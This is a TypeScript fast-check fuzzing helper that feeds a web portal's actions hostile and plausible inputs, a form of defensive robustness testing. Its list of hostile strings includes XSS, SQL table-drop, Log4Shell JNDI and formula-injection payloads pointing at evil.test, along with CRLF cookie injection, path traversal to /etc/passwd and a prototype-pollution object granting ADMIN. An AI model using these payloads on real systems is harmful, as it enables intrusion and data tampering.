import fc from 'fast-check';

/** How many random inputs each of the two ways of trying an action makes, in the test command and in the long run. */
export const HOSTILE_RUNS = { short: 12, long: 120 };

/** Calls that each action gets: one a run, but for the example without any value. */
export const hostileCallsAtLeast = (runs: number) => 2 * runs - 1;

/** Typed by somebody it may come back to them; of the portal's own it must reach nobody. */
export const SIGNED_ADDRESS = 'https://bucket.s3.amazonaws.com/x?X-Amz-Signature=abcdef0123456789';

/** What has broken web applications before: injections, control characters, wrong types, huge and strange numbers. */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\'; DROP TABLE "User"; --',
  '$' + '{jndi:ldap://evil.test/a}',
  '{{constructor.constructor("return process")()}}',
  '=HYPERLINK("http://evil.test","x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  'a\r\nSet-Cookie: next-auth.session-token=evil',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy',
  '\u202egnp.exe',
  '../../../../etc/passwd',
  SIGNED_ADDRESS,
  '//evil.test/path',
  'javascript:alert(1)',
  '٤'.repeat(12),
  '１２３４５６７８９０１２',
  '0x1F',
  '1e999',
  'NaN',
  '-0',
  '',
  ' ',
  '%00',
  '\\',
  'null',
  '9'.repeat(400),
  'x'.repeat(20_000),
] as const;

export const HOSTILE_NUMBERS = [
  0,
  -1,
  1,
  1.5,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 53),
  1e308,
  Number.NaN,
  Number.POSITIVE_INFINITY,
];

/** Plausible ones, so that some inputs get past the parser and try what stands behind it. */
const PLAUSIBLE_TEXTS = [
  '123456789012',
  '2026-12-24',
  '2026-12-24T00:00:00.000Z',
  '25',
  '0.01',
  'bronze',
  'published',
  'approved',
  'rejected',
  'SALES',
  'ACTIVE',
  'PAYER',
  'new',
  'buyer@northbeam.test',
  'Because',
] as const;

/** One hostile or plausible value of any JSON type; `ids` are of things that exist. */
export function hostileValue(ids: readonly string[]): fc.Arbitrary<unknown> {
  const text = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...PLAUSIBLE_TEXTS) },
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
    { weight: 3, arbitrary: fc.constantFrom(...ids, '00000000-0000-4000-8000-000000000000') },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  );
  const number = fc.oneof(fc.constantFrom(...HOSTILE_NUMBERS), fc.integer({ min: 0, max: 5 }));
  const scalar = fc.oneof(
    { weight: 6, arbitrary: text },
    { weight: 2, arbitrary: number },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
  );
  return fc.oneof(
    { weight: 6, arbitrary: scalar },
    { weight: 2, arbitrary: fc.array(scalar, { maxLength: 4 }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        {},
        { toString: 1 },
        { length: 1e9 },
        [[]],
        JSON.parse('{"__proto__":{"role":"ADMIN"}}'),
      ),
    },
  );
}

/** Puts a value where a parser has missed or refused one: `customer.accounts.0.id`. */
export function withValueAt(input: unknown, path: string, value: unknown): unknown {
  const [head = '', ...rest] = path.split('.');
  if (path === '') return value;
  const next = rest.length === 0 ? value : withValueAt(memberOf(input, head), rest.join('.'), value);
  if (/^\d+$/.test(head)) return Object.assign(Array.isArray(input) ? [...(input as unknown[])] : [], { [head]: next });
  return { ...(typeof input === 'object' && input !== null && input), [head]: next };
}

function memberOf(input: unknown, name: string): unknown {
  return typeof input === 'object' && input !== null ? (input as Record<string, unknown>)[name] : undefined;
}
